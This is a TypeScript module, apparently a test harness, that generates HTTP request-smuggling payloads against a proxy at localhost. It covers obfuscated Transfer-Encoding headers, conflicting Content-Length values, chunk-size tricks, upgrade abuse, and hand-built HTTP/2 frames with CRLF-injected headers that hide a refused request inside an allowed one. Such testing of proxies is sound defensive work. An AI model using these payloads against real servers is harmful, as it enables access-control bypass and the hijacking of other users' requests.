/** A request that a proxy lets pass, and the one that it would refuse, which is to be hidden in it. */
export interface SmuggledPair {
  /** The path of a POST that the proxy lets pass. */
  readonly path: string;
  /** The bytes of the request that it refuses. */
  readonly hidden: string;
}

/** An attack: what it relies on, and its bytes. */
type Attack = readonly [what: string, bytes: string];

/** Spellings of the header that one program reads and another does not. */
const SPELLINGS: readonly (readonly [string, string])[] = [
  ["of another coding", "Transfer-Encoding: xchunked"],
  ["with a space before the colon", "Transfer-Encoding : chunked"],
  ["with a tab after the colon", "Transfer-Encoding:\tchunked"],
  ["with a vertical tab", "Transfer-Encoding: \u000bchunked"],
  ["with a zero byte", "Transfer-Encoding: chunked\u0000"],
  ["in two codings, the other one last", "Transfer-Encoding: chunked, identity"],
  ["in two codings", "Transfer-Encoding: identity, chunked"],
  ["in quotes", 'Transfer-Encoding: "chunked"'],
  ["in other letters", "tRANSFER-ENCODING: cHuNkEd"],
  ["on a folded line", "Transfer-Encoding:\r\n chunked"],
  ["behind a bare line feed", "X-One: 1\nTransfer-Encoding: chunked"],
  ["behind a bare carriage return", "X-One: 1\rTransfer-Encoding: chunked"],
  ["twice, the second unknown", "Transfer-Encoding: chunked\r\nTransfer-Encoding: x"],
  ["twice, the first unknown", "Transfer-Encoding: x\r\nTransfer-Encoding: chunked"],
  ["with an underscore", "Transfer_Encoding: chunked"],
];

const END = "0\r\n\r\n";

/** Attacks by HTTP/1.1: two programs that disagree where a request ends. */
export function attacksByHttp1({ path, hidden }: SmuggledPair): Attack[] {
  const head = `POST ${path} HTTP/1.1\r\nHost: localhost\r\nContent-Type: application/json\r\n`;
  const size = hidden.length.toString(16);
  const lengthOf = (text: string) => `Content-Length: ${text.length}\r\n`;
  const inChunk = `${size}\r\n${hidden}\r\n${END}`;
  return [
    ["a length before chunks", `${head}${lengthOf(END + hidden)}Transfer-Encoding: chunked\r\n\r\n${END}${hidden}`],
    ["chunks before a length", `${head}Content-Length: 4\r\nTransfer-Encoding: chunked\r\n\r\n${inChunk}`],
    ...SPELLINGS.flatMap(([what, line]): Attack[] => [
      [`chunks ${what}, behind a length`, `${head}${lengthOf(END + hidden)}${line}\r\n\r\n${END}${hidden}`],
      [`chunks ${what}, with a length of the first line`, `${head}Content-Length: 4\r\n${line}\r\n\r\n${inChunk}`],
    ]),
    ...["0", "+0", "0x0", "-0", " 0", "0 ", "0,0", "00", "0\t", "0\u0000"].flatMap((length): Attack[] => [
      [
        `a second length of ${JSON.stringify(length)}`,
        `${head}${lengthOf(hidden)}Content-Length: ${length}\r\n\r\n${hidden}`,
      ],
      [
        `a first length of ${JSON.stringify(length)}`,
        `${head}Content-Length: ${length}\r\n${lengthOf(hidden)}\r\n${hidden}`,
      ],
    ]),
    ["a length with a space before the colon", `${head}Content-Length : ${hidden.length}\r\n\r\n${hidden}`],
    ["a length behind a bare line feed", `${head}X-One: 1\nContent-Length: ${hidden.length}\r\n\r\n${hidden}`],
    ["a length of a GET", `GET /health HTTP/1.1\r\nHost: localhost\r\n${lengthOf(hidden)}\r\n${hidden}`],
    [
      "a length of an older version",
      `POST ${path} HTTP/1.0\r\nHost: localhost\r\nConnection: keep-alive\r\n${lengthOf(hidden)}\r\n${hidden}`,
    ],
    [
      "chunks of an older version",
      `POST ${path} HTTP/1.0\r\nHost: localhost\r\nConnection: keep-alive\r\nTransfer-Encoding: chunked\r\n\r\n${END}${hidden}`,
    ],
    [
      "a chunk whose size ends at a bare line feed",
      `${head}Transfer-Encoding: chunked\r\n\r\n2;\nxx\r\n${size}\r\n${hidden}\r\n${END}`,
    ],
    [
      "a last chunk with bare line feeds",
      `${head}${lengthOf(`0\n\n${hidden}`)}Transfer-Encoding: chunked\r\n\r\n0\n\n${hidden}`,
    ],
    ["a chunk with a sign", `${head}Transfer-Encoding: chunked\r\n\r\n+${inChunk}`],
    ["a chunk in another base", `${head}Transfer-Encoding: chunked\r\n\r\n0x${inChunk}`],
    [
      "a chunk of a size that overflows",
      `${head}Transfer-Encoding: chunked\r\n\r\n1000000000000000${size}\r\n${hidden}\r\n${END}`,
    ],
    [
      "a length named as a header of this connection",
      `${head}${lengthOf(hidden)}Connection: Content-Length\r\n\r\n${hidden}`,
    ],
    [
      "chunks named as a header of this connection",
      `${head}${lengthOf(END + hidden)}Connection: Transfer-Encoding\r\nTransfer-Encoding: chunked\r\n\r\n${END}${hidden}`,
    ],
    [
      "an upgrade to HTTP/2",
      `GET /health HTTP/1.1\r\nHost: localhost\r\nConnection: Upgrade, HTTP2-Settings\r\nUpgrade: h2c\r\nHTTP2-Settings: AAMAAABkAAQAAP__\r\n${lengthOf(hidden)}\r\n${hidden}`,
    ],
    [
      "an upgrade to a socket",
      `GET /health HTTP/1.1\r\nHost: localhost\r\nConnection: Upgrade\r\nUpgrade: websocket\r\nSec-WebSocket-Version: 13\r\nSec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==\r\n\r\n${hidden}`,
    ],
    ["an expectation before the body", `${head}Expect: 100-continue\r\nContent-Length: 0\r\n\r\n${hidden}`],
  ];
}

/** Attacks by HTTP/2, whose frames say where a request ends, and whose headers a proxy writes as text. */
export function attacksByHttp2({ path, hidden }: SmuggledPair): (readonly [what: string, bytes: Buffer])[] {
  const usual: Headers = [
    [":method", "POST"],
    [":scheme", "http"],
    [":path", path],
    [":authority", "localhost"],
    ["content-type", "application/json"],
  ];
  const withPath = (text: string): Headers => usual.map(([name, value]) => [name, name === ":path" ? text : value]);
  const withMethod = (text: string): Headers => usual.map(([name, value]) => [name, name === ":method" ? text : value]);
  const chunks = `${END}${hidden}`;
  return [
    ["chunks", request([...usual, ["transfer-encoding", "chunked"]], chunks)],
    ["a length of nothing", request([...usual, ["content-length", "0"]], hidden)],
    ["a line break in a value", request([...usual, ["x-one", "1\r\ntransfer-encoding: chunked"]], chunks)],
    ["a line feed in a value", request([...usual, ["x-one", "1\ntransfer-encoding: chunked"]], chunks)],
    ["a line break in a name", request([...usual, ["x-one: 1\r\ntransfer-encoding", "chunked"]], chunks)],
    ["a colon in a name", request([...usual, ["transfer-encoding: chunked\r\nx-one", "1"]], chunks)],
    ["a whole request in a value", request([...usual, ["x-one", `1\r\n\r\n${hidden}`]], "")],
    ["a whole request in the path", request(withPath(`${path} HTTP/1.1\r\nHost: localhost\r\n\r\n${hidden}`), "")],
    [
      "a whole request in the method",
      request(withMethod(`GET /health HTTP/1.1\r\nHost: localhost\r\n\r\n${hidden}`), ""),
    ],
    ["a name in capitals", request([...usual, ["Transfer-Encoding", "chunked"]], chunks)],
    ["two lengths", request([...usual, ["content-length", "0"], ["content-length", String(hidden.length)]], hidden)],
  ];
}

type Headers = readonly (readonly [name: string, value: string])[];

const HEADERS_FRAME = 1;
const DATA_FRAME = 0;
const SETTINGS_FRAME = 4;
const END_STREAM = 1;
const END_HEADERS = 4;
const MAX_FRAME_BYTES = 16_384;

/** The bytes of a connection with one request, whose headers are written as they are: no client would send them. */
function request(headers: Headers, body: string): Buffer {
  const fields = Buffer.concat(headers.flatMap(([name, value]) => [Buffer.of(0), text(name), text(value)]));
  const data = Buffer.from(body, "latin1");
  if (Math.max(fields.length, data.length) > MAX_FRAME_BYTES) throw new Error("The request is too long for a frame.");
  return Buffer.concat([
    Buffer.from("PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"),
    frame(SETTINGS_FRAME, 0, 0, Buffer.alloc(0)),
    frame(HEADERS_FRAME, END_HEADERS | (data.length === 0 ? END_STREAM : 0), 1, fields),
    ...(data.length === 0 ? [] : [frame(DATA_FRAME, END_STREAM, 1, data)]),
  ]);
}

function frame(kind: number, flags: number, stream: number, content: Buffer): Buffer {
  const head = Buffer.alloc(9);
  head.writeUIntBE(content.length, 0, 3);
  head.writeUInt8(kind, 3);
  head.writeUInt8(flags, 4);
  head.writeUInt32BE(stream, 5);
  return Buffer.concat([head, content]);
}

/** A text of HPACK, not packed: its length in seven bits, and more bytes where that is not enough. */
function text(value: string): Buffer {
  const bytes = Buffer.from(value, "latin1");
  if (bytes.length < 127) return Buffer.concat([Buffer.of(bytes.length), bytes]);
  const length = [127];
  let rest = bytes.length - 127;
  for (; rest >= 128; rest = Math.floor(rest / 128)) length.push((rest % 128) | 128);
  return Buffer.concat([Buffer.from([...length, rest]), bytes]);
}
